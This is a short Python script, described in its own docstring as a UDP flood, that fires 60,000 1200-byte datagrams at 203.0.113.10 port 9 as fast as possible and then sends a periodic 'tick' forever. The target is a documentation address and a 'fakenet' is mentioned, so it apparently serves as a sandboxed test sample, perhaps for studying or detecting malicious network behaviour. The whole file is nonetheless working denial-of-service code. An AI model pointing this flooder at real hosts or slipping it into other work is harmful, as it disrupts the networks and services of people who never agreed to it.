"""UDP flood: 1200-byte datagrams to 203.0.113.10:9, as fast as it goes,
in bursts (the fakenet logs each datagram; the burst count bounds the run)."""
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = b"F" * 1200
sent = 0
for _ in range(60_000):
    try:
        s.sendto(payload, ("203.0.113.10", 9))
        sent += 1
    except OSError:
        pass
print(f"udpflood: sent {sent} datagrams", flush=True)
while True:
    s.sendto(b"tick", ("203.0.113.10", 9))
    import time
    time.sleep(600)
